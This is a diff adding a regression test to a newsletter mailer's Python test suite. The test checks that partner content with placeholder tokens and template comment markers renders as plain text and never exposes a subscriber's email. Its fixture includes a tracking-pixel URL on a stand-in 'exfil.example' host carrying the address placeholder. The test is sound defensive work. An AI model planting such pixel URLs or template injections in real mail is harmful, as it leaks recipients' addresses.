@@ -8,6 +8,7 @@ from xml.etree import ElementTree as ET
 import pytest
 from sqlalchemy import select
 
+from mailer.digest import preview
 from mailer.digest.editions import build_edition
 from mailer.digest.models import Edition
 from subscribers.models import Subscriber
@@ -271,3 +272,43 @@ def test_the_preview_links_migration_keeps_editions_and_goes_back(tmp_path):
     command.downgrade(alembic_config(url), "8_pending_subscription")
     assert "preview_generation" not in {col["name"] for col in inspect(create_engine(url)).get_columns("editions")}
     engine.dispose()
+
+
+def test_partner_syntax_in_an_item_renders_as_text_on_every_web_face(session, client, rt, queue):
+    """Issue 9.1/9.2: the preview answered 500 for a summary holding ``<!--BLOCK:zzz-->``,
+    and partner placeholders filled in the viewer's address. Preview, view online and the
+    archive now show the partner's text as written, and nobody's address where it put one."""
+    from mailer.delivery.actors import start_edition
+
+    w = standard_world(session)
+    bad = w.item("bad", "naz", ["sexual-health"], day=12, title="Hello __PH_EMAIL__ __PH_NOPE__",
+                 summary="Manage at __PH_MANAGE_URL__ <!--BLOCK:zzz--> <!--BLOCK:public-->PUBLIC")
+    bad.image_url, bad.image_alt = "https://exfil.example/p.gif?e=__PH_EMAIL__", "__PH_VIEW_URL__"
+    w.subscriber("amina@x.org", topics=["sexual-health"], name="Amina Rahman")
+    ed = build_edition(session, PERIOD)
+    session.commit()
+    token = preview.preview_token(rt.settings, ed)
+    for query in (f"topic={w.topics['sexual-health'].id}", f"partner={w.partners['naz'].id}"):
+        for fmt in ("", "&format=text"):
+            frame = client.get(f"/preview/{token}/frame?{query}{fmt}")
+            assert frame.status_code == 200, frame.text
+            assert "Hello __PH_EMAIL__ __PH_NOPE__" in frame.text
+            assert "amina@x.org" not in frame.text.replace("sent to amina@x.org", "", 1)
+            assert "subscriber@example.invalid" not in frame.text.replace(
+                "sent to subscriber@example.invalid", "", 1)
+
+    start_edition.send(ed.id)
+    queue()
+    data, _ = _message_for(rt.transport, "amina@x.org")
+    view = next(u for u in links_in(data) if "/view/" in u).removeprefix(rt.settings.base_url)
+    page = client.get(view)
+    assert page.status_code == 200
+    assert page.text.count("amina@x.org") == 1  # "It was sent to amina@x.org."
+    assert "e=__PH_EMAIL__" in page.text and "Manage at __PH_MANAGE_URL__" in page.text
+    assert page.text.count("/manage/") == 1 and "PUBLIC" in page.text
+    assert "public copy" not in page.text  # the public footer block stayed out
+    session.get(Edition, ed.id).status = "sent"
+    session.commit()
+    archive = client.get(f"/archive/{PERIOD}")
+    assert archive.status_code == 200 and "Hello __PH_EMAIL__ __PH_NOPE__" in archive.text
+    assert "amina" not in archive.text.lower() and "/manage/" not in archive.text
